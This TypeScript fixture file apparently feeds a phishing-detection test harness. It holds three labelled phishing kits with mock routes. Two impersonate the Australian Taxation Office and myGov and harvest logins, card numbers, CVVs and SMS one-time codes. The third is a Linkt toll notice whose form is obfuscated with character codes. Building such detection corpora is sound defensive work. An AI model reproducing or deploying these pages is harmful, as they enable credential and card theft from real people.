import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { charCodes } from '../parts/yf-kit.js';

// Tax-office and government-service kits: ATO, myGov, IRD, CRA, Service Canada, road tolls.

const atoCard = `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Australian Taxation Office | Refund payment</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#222}
.gh{background:#1b1b1b;color:#fff;padding:14px 5%;display:flex;align-items:center;gap:16px}.gh b{font-size:18px}
.band{background:#003a69;height:6px}
.w{max-width:560px;margin:30px auto;background:#fff;padding:28px;border:1px solid #ddd}
label{display:block;font-weight:bold;font-size:14px;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #888;font-size:15px}
.r{display:flex;gap:12px}.r>div{flex:1}
button{margin-top:18px;background:#003a69;color:#fff;border:0;padding:11px 28px;font-size:15px}
</style></head><body>
<div class="gh"><b>Australian Government</b><span>Australian Taxation Office</span></div><div class="band"></div>
<div class="w">
<h2>Step 2 of 2: Refund destination</h2>
<p>Your refund of <b>$786.40</b> will be credited to the card below within 2 business days. Enter the card linked to your nominated account.</p>
<form method="post" action="/ato/refund/complete">
<label>Cardholder name</label><input name="holder" required>
<label>Card number</label><input name="pan" inputmode="numeric" required>
<div class="r"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>Security code</label><input name="cvv" maxlength="4" required></div></div>
<label>Mobile number</label><input name="mobile" type="tel">
<button type="submit">Receive refund</button>
</form>
</div></body></html>`;

export const entries: Entry[] = [
  {
    id: 'yf-ato-refund-mygov-card-kit',
    label: 'phishing',
    kind: 'tax-office-kit',
    url: 'https://ato-gov-au.refund-claim.com/ato/refund/?case=RF-2024-881034',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>myGov - Sign in</title>
<style>
body{margin:0;font-family:"Public Sans",Arial,sans-serif;background:#f5f5f5;color:#313131}
.hd{background:#fff;border-bottom:4px solid #0a5e6f;padding:16px 6%;display:flex;align-items:center;gap:18px}
.hd .crest{width:54px;height:40px;background:#313131;mask:none;border-radius:2px}
.hd b{font-size:26px;color:#0a5e6f;letter-spacing:-.5px}
.note{max-width:600px;margin:24px auto 0;background:#e8f4f8;border-left:5px solid #0a5e6f;padding:14px 18px;font-size:15px}
.bx{max-width:600px;margin:18px auto;background:#fff;padding:30px 36px;border:1px solid #ddd}
label{display:block;font-weight:600;margin:16px 0 6px}
input{width:100%;box-sizing:border-box;padding:10px;border:2px solid #313131;font-size:16px}
.btn{margin-top:22px;background:#0a5e6f;color:#fff;border:0;padding:12px 30px;font-size:16px;font-weight:600;cursor:pointer}
a{color:#0a5e6f}
</style></head>
<body>
<div class="hd"><div class="crest"></div><b>myGov</b></div>
<div class="note"><b>Australian Taxation Office:</b> After the annual calculation of your fiscal activity, you are eligible to receive a tax refund of <b>$786.40</b>. Sign in to claim before <b id="dl"></b>.</div>
<div class="bx">
<h1 style="margin-top:0;font-size:28px">Sign in with myGov</h1>
<form method="post" action="/ato/refund/login">
<input type="hidden" name="case" value="RF-2024-881034">
<label for="u">Username or email</label><input id="u" name="userId" required>
<label for="p">Password</label><input id="p" type="password" name="password" required>
<p><a href="#">Forgot username</a> &middot; <a href="#">Forgot password</a></p>
<button class="btn" type="submit">Sign in</button>
</form>
</div>
<script>var d=new Date(Date.now()+2*864e5);document.getElementById('dl').textContent=d.toLocaleDateString('en-AU',{day:'numeric',month:'long',year:'numeric'});</script>
</body></html>`,
    routes: {
      'ato-gov-au.refund-claim.com/ato/refund/login': redirectRoute(302, '/ato/refund/card'),
      'ato-gov-au.refund-claim.com/ato/refund/card': htmlRoute(atoCard),
      'ato-gov-au.refund-claim.com/ato/refund/complete': redirectRoute(302, 'https://www.ato.gov.au/'),
    },
  },
  {
    id: 'yf-mygov-linking-sms-code-kit',
    label: 'phishing',
    kind: 'government-login-kit',
    url: 'https://my-gov-au.services-login.info/LoginServices/main/login?execution=e1s1',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in - myGov</title>
<style>
body{margin:0;font-family:"Public Sans",Helvetica,Arial,sans-serif;background:#fff;color:#313131}
header{background:#f5f5f5;padding:18px 8%;border-bottom:1px solid #e0e0e0;display:flex;align-items:center;gap:14px}
header b{font-size:28px;color:#313131}header span{display:inline-block;width:4px;height:36px;background:#00a7b5}
main{max-width:520px;margin:40px auto;padding:0 20px}
h1{font-size:36px;margin:0 0 24px}
label{display:block;font-weight:700;margin:20px 0 6px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #313131;border-radius:4px;font-size:16px}
.btn{margin-top:26px;background:#313131;color:#fff;border:0;border-radius:4px;padding:12px 34px;font-size:16px;font-weight:700}
.alt{margin-top:36px;border-top:1px solid #ddd;padding-top:20px}
.alt a{color:#006fb0}
#code{display:none}
</style></head>
<body>
<header><span></span><b>myGov</b></header>
<main>
<div id="login">
<h1>Sign in with myGov</h1>
<label for="userId">Username or email</label><input id="userId" autocomplete="username">
<p style="font-size:14px"><a href="#">Forgot username</a></p>
<label for="password">Password</label><input id="password" type="password" autocomplete="current-password">
<p style="font-size:14px"><a href="#">Forgot password</a></p>
<button class="btn" id="sg">Sign in</button>
<div class="alt"><h3>Other ways to sign in</h3><p><a href="#">Sign in with myID</a></p><p><a href="#">Sign in with a Digital Identity</a></p></div>
</div>
<div id="code">
<h1>Enter code</h1>
<p>We sent a code to your mobile ending in <b id="last"></b>. It will expire in 10 minutes.</p>
<label for="otp">Code</label><input id="otp" inputmode="numeric" maxlength="6">
<button class="btn" id="cn">Next</button>
</div>
</main>
<script>
var tok = '';
document.getElementById('sg').onclick = function(){
  var u = document.getElementById('userId').value, p = document.getElementById('password').value;
  if (!u || !p) return;
  fetch('/LoginServices/api/step1', {method:'POST', headers:{'Content-Type':'application/x-www-form-urlencoded'}, body:'u='+encodeURIComponent(u)+'&p='+encodeURIComponent(p)})
    .then(function(r){return r.json()}).then(function(j){ tok = j.t; document.getElementById('last').textContent = j.last || '**'; document.getElementById('login').style.display='none'; document.getElementById('code').style.display='block'; });
};
document.getElementById('cn').onclick = function(){
  fetch('/LoginServices/api/step2', {method:'POST', headers:{'Content-Type':'application/x-www-form-urlencoded'}, body:'t='+tok+'&c='+encodeURIComponent(document.getElementById('otp').value)})
    .then(function(){ location.href = 'https://my.gov.au/'; });
};
</script>
</body></html>`,
    routes: {
      'my-gov-au.services-login.info/LoginServices/api/step1': jsonRoute({ t: 'a81f0c', last: '** 418' }),
      'my-gov-au.services-login.info/LoginServices/api/step2': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'yf-linkt-unpaid-toll-charcode-kit',
    label: 'phishing',
    kind: 'toll-fee-kit',
    url: 'https://linkt-tollpay.au-notice.com/pay?ref=LNK7730418',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Linkt | Pay a toll notice</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;color:#1e1e1e}
.h{background:#4c2a85;color:#fff;padding:16px 20px;font-size:24px;font-weight:bold;letter-spacing:1px}
.c{max-width:480px;margin:24px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 5px rgba(0,0,0,.1)}
.amt{display:flex;justify-content:space-between;background:#f7f3fd;padding:12px;border-radius:6px;margin:12px 0}
label{display:block;font-size:14px;font-weight:bold;margin:12px 0 4px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px;font-size:16px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;margin-top:18px;background:#ff5f00;color:#fff;border:0;border-radius:24px;padding:12px;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="h">linkt</div>
<div id="app"></div>
<script>
var s = String.fromCharCode(${charCodes(`<div class="c"><h2 style="margin-top:0">Unpaid toll notice</h2><p>Our records show an unpaid toll trip on the M2 Hills Motorway. To avoid an administration fee of $19.50 and referral to the issuing authority, please pay the outstanding amount today.</p><div class="amt"><span>Trip LNK7730418 &middot; M2 &middot; 14 Apr</span><b>$5.82</b></div><form id="pf"><label>Full name</label><input name="n" required><label>Mobile</label><input name="m" type="tel" required><label>Card number</label><input name="cc" inputmode="numeric" required><div class="r"><div><label>Expiry</label><input name="ex" placeholder="MM/YY" required></div><div><label>CVV</label><input name="cv" maxlength="4" required></div></div><button type="submit">Pay $5.82</button></form></div>`)});
document.getElementById('app').innerHTML = s;
document.getElementById('pf').onsubmit = function(e){
  e.preventDefault();
  var o = {}; new FormData(this).forEach(function(v, k){ o[k] = v; });
  fetch('/api/pay', {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify(o)}).then(function(){ location.href = '/pay/otp?ref=LNK7730418'; });
};
</script>
</body></html>`,
    routes: {
      'linkt-tollpay.au-notice.com/api/pay': jsonRoute({ ok: true }),
      'linkt-tollpay.au-notice.com/pay/otp': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verified by Visa</title></head><body style="font-family:Arial;max-width:420px;margin:40px auto"><h3>Verify your payment</h3><p>Enter the one-time password sent to your mobile to authorise the payment of $5.82 to LINKT PTY LTD.</p><form method="post" action="/api/otp"><input name="otp" maxlength="6" style="padding:10px;width:100%"><button style="margin-top:12px;padding:10px 20px">Submit</button></form></body></html>`),
      'linkt-tollpay.au-notice.com/api/otp': redirectRoute(302, 'https://www.linkt.com.au/'),
    },
  },
];
